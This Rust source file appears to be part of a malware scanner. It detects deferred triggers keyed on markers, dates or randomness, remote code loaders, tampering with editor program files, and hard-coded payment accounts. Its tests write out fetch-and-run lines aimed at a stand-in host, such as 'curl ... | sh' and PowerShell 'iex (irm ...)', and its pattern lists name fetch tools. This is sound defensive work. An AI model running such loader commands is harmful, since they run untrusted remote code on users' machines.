//! What the parsers of all languages ask of texts and conditions when they look for harm that is
//! held back: by a marker in a text, by time, by chance.

use std::collections::{BTreeMap, BTreeSet};

/// What is known of names in one function.
#[derive(Debug, Default, Clone)]
pub struct Frame<'a> {
    /// Names that hold something of a parameter.
    pub given: BTreeSet<&'a str>,
    /// Names that hold what stands behind a marker.
    pub marked: BTreeSet<&'a str>,
    /// The words of what names were given last.
    pub words: BTreeMap<&'a str, Vec<&'a str>>,
}

/// Parts of names of what money goes to.
pub const PAYEE: &[&str] = &[
    "account",
    "acct",
    "iban",
    "konto",
    "cuenta",
    "compte",
    "payee",
    "recipient",
    "beneficiary",
    "creditor",
    "wallet",
    "address",
    "destination",
];

/// Parts of names of how much it is.
pub const AMOUNT: &[&str] = &[
    "amount", "betrag", "montant", "importe", "total", "sum", "value", "units", "lamports", "sats", "wei",
    "balance", "price",
];

/// Whether a name has one of these parts, in upper or lower case.
pub fn says(name: &str, parts: &[&str]) -> bool {
    let lower = name.to_ascii_lowercase();
    parts.iter().any(|part| lower.contains(part))
}

/// Words that stand for time that goes by, in any language, in lower case.
pub const TIME: &[&str] = &[
    "elapsed",
    "monotonic",
    "perf_counter",
    "hrtime",
    "uptime",
    "now",
    "today",
    "utcnow",
    "time",
    "getTime",
    "duration_since",
    "performance",
    "started",
    "since",
    "start",
    "Date",
];
/// Words that draw lots.
pub const CHANCE: &[&str] = &[
    "random",
    "rand",
    "randint",
    "randrange",
    "uniform",
    "getrandbits",
    "fastrand",
    "gen_bool",
    "gen_range",
    "random_bool",
    "random_range",
    "thread_rng",
    "randomInt",
    "getRandomValues",
    "choice",
    "randbelow",
    "token_bytes",
];

/// Whether a text that is looked for marks what comes behind it: some letters or digits, not one
/// sign that separates fields and not the scheme of an address.
pub fn is_marker(text: &str) -> bool {
    let letters = text.bytes().filter(u8::is_ascii_alphanumeric).count();
    letters >= 2 && text.len() <= 64 && !text.contains("://") && !text.contains('\n')
}

/// Whether a pattern asks for a constant marker and takes what comes behind it: `^zq:(.*)$`.
pub fn marks(pattern: &str) -> bool {
    let start = pattern.trim_start_matches('^').trim_start_matches("\\A").trim_start_matches("(?:");
    let plain = |c: char| c.is_ascii_alphanumeric() || " _:;=#@!/<>,-".contains(c);
    let end = start.find(|c| !plain(c)).unwrap_or(start.len());
    let (marker, rest) = start.split_at(end);
    is_marker(marker)
        && !rest.starts_with(['*', '+', '?', '{', '|'])
        && ["(.", "([", "(?P<"].iter().any(|group| rest.contains(group))
}

/// Whether a text is code that fetches code and runs it.
pub fn is_code_loader(text: &str) -> bool {
    if text.len() > 4_000 || !text.contains("http") {
        return false;
    }
    let lower: String = text.chars().filter(|c| !c.is_whitespace()).collect::<String>().to_ascii_lowercase();
    let has = |part: &str| lower.contains(part);
    let quoted =
        |start: &str| ["'", "\"", "`"].iter().any(|quote| lower.contains(&format!("{start}{quote}http")));
    quoted("import(")
        || quoted("importscripts(")
        || has("eval(") && (quoted("fetch(") || quoted("get(") || quoted("urlopen("))
        || has("exec(") && (quoted("get(") || quoted("urlopen("))
        || quoted("fetch(") && ["_compile(", "newfunction(", "runinthiscontext("].iter().any(|part| has(part))
}

/// Whether a text is code or a command line that fetches something and runs it.
pub fn is_loader(text: &str) -> bool {
    if text.len() > 4_000 || !text.contains("http") && !text.contains('$') {
        return false;
    }
    let lower: String = text.chars().filter(|c| !c.is_whitespace()).collect::<String>().to_ascii_lowercase();
    let has = |part: &str| lower.contains(part);
    let fetches = has("curl") || has("wget") || has("irm") || has("iwr") || has("invoke-webrequest");
    let runs = [
        "|sh",
        "|bash",
        "|zsh",
        "|python",
        "|node",
        "|perl",
        "|iex",
        "|sudosh",
        "|sudobash",
        "iex(",
        "$(curl",
        "<(curl",
    ]
    .iter()
    .any(|part| has(part));
    is_code_loader(text) || fetches && has("://") && runs
}

/// Whether a path is a part of an installed editor or chat program that it runs as its own code.
pub fn is_editor_program(text: &str) -> bool {
    if text.len() > 300 || text.contains('\n') {
        return false;
    }
    let path = text.replace('\\', "/").to_ascii_lowercase();
    [
        "resources/app/out",
        "contents/resources/app",
        "resources/app.asar",
        "resources/app/extensions",
        "discord_desktop_core",
    ]
    .iter()
    .any(|part| path.contains(part))
}

/// Whether a text is an account that money goes to: an address of Ethereum's or Bitcoin's form, or an
/// IBAN.
pub fn is_account(text: &str) -> bool {
    let word = text.bytes().all(|b| b.is_ascii_alphanumeric());
    let hex = |rest: &str| rest.len() == 40 && rest.bytes().all(|b| b.is_ascii_hexdigit());
    let bytes = text.as_bytes();
    text.strip_prefix("0x").is_some_and(hex)
        || word && text.starts_with("bc1") && (25..=62).contains(&text.len())
        || word
            && (15..=34).contains(&text.len())
            && bytes[..2].iter().all(u8::is_ascii_uppercase)
            && bytes[2..4].iter().all(u8::is_ascii_digit)
            && bytes[4..].iter().filter(|b| b.is_ascii_digit()).count() * 2 >= bytes.len() - 4
            && !bytes.iter().any(u8::is_ascii_lowercase)
}

/// Whether the words of a condition ask for the time and draw lots as well.
pub fn time_and_chance<'w>(words: impl Iterator<Item = &'w str>) -> bool {
    let (mut time, mut chance) = (false, false);
    for word in words {
        time |= TIME.contains(&word);
        chance |= CHANCE.contains(&word);
    }
    time && chance
}

/// Parts of names of functions that give the time.
const CLOCKS: &[&str] = &["today", "now", "day", "year", "unix", "epoch", "stamp"];

/// Whether a name, or any name of a text, in lower case, may be that of a function that gives the
/// time.
pub fn names_a_clock(text: &str) -> bool {
    CLOCKS.iter().any(|part| memchr::memmem::find(text.as_bytes(), part.as_bytes()).is_some())
}

/// Whether a number is a day of our time, as a function of that name counts: days, seconds or
/// milliseconds since 1970, or years.
pub fn is_day(function: &str, number: u64) -> bool {
    let lower = function.to_ascii_lowercase();
    if !names_a_clock(&lower) {
        return false;
    }
    match number {
        19_700..=32_000 => lower.contains("today") || lower.contains("day"),
        1_700_000_000..=2_600_000_000 | 1_700_000_000_000..=2_600_000_000_000 => !lower.contains("year"),
        2_024..=2_040 => lower.contains("year"),
        _ => false,
    }
}

/// Whether a number, as it is written, may be a day for [`is_day`].
pub fn may_be_day(written: &str) -> bool {
    let digits: String = written.bytes().filter(u8::is_ascii_digit).map(char::from).take(20).collect();
    digits.parse().is_ok_and(|number| ["today", "year"].iter().any(|name| is_day(name, number)))
}

/// Programs that fetch what an address gives.
const FETCHERS: &[&str] = &["curl", "wget", "aria2c", "certutil", "bitsadmin", "powershell", "pwsh", "fetch"];

/// Whether a program of that name fetches what an address gives.
pub fn fetches(program: &str) -> bool {
    let name = program.rsplit(['/', '\\']).next().unwrap_or(program);
    let name = name.strip_suffix(".exe").unwrap_or(name);
    FETCHERS.contains(&name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markers_are_words_and_not_separators() {
        assert!(is_marker("zq=") && is_marker("x-run:") && is_marker("07"));
        assert!(!is_marker(";") && !is_marker("--") && !is_marker("https://") && !is_marker("="));
    }

    #[test]
    fn patterns_with_a_marker_in_front() {
        assert!(marks("^q7:(.+)$") && marks(r"run=([^;]*)") && marks("\\Aq7 (?P<line>.*)"));
        assert!(!marks(r"^(\w+)=(.*)$") && !marks(r"^\s*([a-z]+)") && !marks("^q7$"));
    }

    #[test]
    fn loaders_fetch_and_run() {
        assert!(is_loader(";import('https://x.invalid/m.mjs').catch(()=>{});"));
        assert!(is_loader("curl -fsSL https://x.invalid/h | sh"));
        assert!(is_loader("powershell -c \"iex (irm https://x.invalid/p.ps1)\""));
        assert!(is_loader("exec(urllib.request.urlopen('https://x.invalid').read())"));
        assert!(!is_loader("curl -O https://x.invalid/list.json") && !is_loader("import('./m.mjs')"));
    }

    #[test]
    fn programs_of_editors() {
        assert!(is_editor_program("/Applications/Code.app/Contents/Resources/app/out/main.js"));
        assert!(is_editor_program(r"C:\Programs\cursor\resources\app\out\main.js"));
        assert!(
            !is_editor_program("resources/app.json")
                && !is_editor_program("~/.config/Code/User/settings.json")
        );
    }

    #[test]
    fn accounts_of_their_forms() {
        assert!(is_account("0x00000000000000000000000000000000000000aa"));
        assert!(is_account("XX00FAKE00000000000000001") && is_account("bc1qxxxxxxxxxxxxxxxxxxxxxxxxxxx"));
        assert!(!is_account("AB12") && !is_account("0xdeadbeef") && !is_account("CAPITALLETTERSONLY12"));
    }

    #[test]
    fn time_and_chance_have_to_come_together() {
        let of = |words: &[&str]| time_and_chance(words.iter().copied());
        assert!(of(&["self", "started", "elapsed", "random"]));
        assert!(!of(&["random", "uniform"]) && !of(&["elapsed", "timeout"]));
    }

    #[test]
    fn days_are_counted_in_the_unit_of_the_clock() {
        assert!(is_day("today", 20_970) && is_day("now_ms", 1_790_000_000_000) && is_day("year", 2027));
        assert!(!is_day("elapsed", 20_970) && !is_day("now", 20_000) && !is_day("len", 2027));
    }
}
